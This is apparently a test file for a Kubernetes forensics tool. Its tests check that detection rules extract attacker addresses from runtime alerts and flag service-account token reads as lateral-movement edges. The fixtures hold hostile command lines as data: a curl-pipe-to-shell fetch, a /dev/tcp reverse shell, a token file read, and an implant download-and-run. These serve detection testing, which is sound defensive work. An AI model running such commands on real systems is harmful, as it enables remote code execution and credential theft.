"""Runtime evidence that remediation and the graph build on: the outside address a command
fetches from or a reverse shell dials, and a token file opened (an alert, not a command)."""

from __future__ import annotations

import pandas as pd

import k8sforensics as kf
from k8sforensics.detect import Evidence
from k8sforensics.detect import runtime_rules as rr
from tests.event_frames import frame

PODS = pd.DataFrame(
    {
        "namespace": ["shop"],
        "name": ["web-1"],
        "service_account": ["web"],
        "workload_kind": ["Deployment"],
        "workload": ["web"],
        "node": ["node-1"],
    }
)


def _alert(cmdline: str, **kw: object) -> dict:
    return {
        "time": "2026-05-12T08:25:54Z",
        "source": "falco",
        "event_type": "alert",
        "rule": "Run shell untrusted",
        "priority": "Notice",
        "namespace": "shop",
        "pod": "web-1",
        "node": "node-1",
        "cmdline": cmdline,
        "process": "/bin/sh",
        "tags": [],
        **kw,
    }


def test_a_falco_alert_names_where_its_command_fetches_from_and_a_reverse_shell_dials() -> None:
    ev = Evidence(
        runtime=frame(
            "runtime",
            _alert('sh -c "curl -s http://198.51.100.89/x.sh | sh"'),
            _alert("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", time="2026-05-12T09:25:54Z"),
            _alert("curl -s http://10.0.1.5/healthz", time="2026-05-12T10:25:54Z"),
        )
    )
    hits = rr.falco_alerts(ev)
    assert sorted(hits["destination_ip"].dropna()) == [
        "198.51.100.89",
        "203.0.113.7",
    ]  # an inside address is nobody's to block


def test_a_token_file_opened_in_an_alert_is_a_token_steal_edge() -> None:
    ev = Evidence(
        runtime=frame(
            "runtime",
            _alert(
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                rule="Read sensitive file untrusted",
                file_path="/var/run/secrets/kubernetes.io/serviceaccount/token",
                priority="Warning",
            ),
        ),
        context={"pods": PODS},
    )
    g = kf.lateral_movement(ev, possible=False)
    assert [d["type"] for _, _, d in g.edges("pod:shop/web-1", data=True)] == ["token_steal"]
    assert g.has_edge("pod:shop/web-1", "sa:shop/web")


def test_a_pod_known_only_from_its_tokens_gets_their_account() -> None:
    from k8sforensics.context.lifetimes import POD_IPS_COLUMNS, pods_from_all_sources

    from ..context.test_lifetimes import audit_rows, ts

    audit = audit_rows([(20, "delete", "shop", "web-1", None, None)])
    rows = pods_from_all_sources(
        pd.DataFrame(columns=["namespace", "name"]),
        iter([audit]),
        pd.DataFrame(columns=POD_IPS_COLUMNS),
        "c",
        token_accounts={("shop", "web-1"): "web"},
    )
    assert [(r["name"], r["service_account"], r["deleted"]) for r in rows] == [("web-1", "web", ts(20))]


def test_a_shell_running_a_download_is_a_download_with_its_address() -> None:
    row = {
        "time": "2026-05-12T08:25:54Z",
        "source": "tetragon",
        "event_type": "exec",
        "namespace": "shop",
        "pod": "cart-1",
        "node": "node-1",
        "process": "/bin/sh",
        "args": '-c "curl -s http://198.51.100.30/implant -o /tmp/.i && /tmp/.i"',
        "parent_process": "/app/cart",
    }
    hits = rr.download_tool(
        Evidence(
            runtime=frame(
                "runtime",
                row,
                {**row, "args": "-c 'wget -q -O- http://10.0.1.5:8443/healthz'", "time": "2026-05-12T09:25:54Z"},
            )
        )
    )
    assert hits["destination_ip"].tolist() == ["198.51.100.30"]  # the probe of an inside address is no download
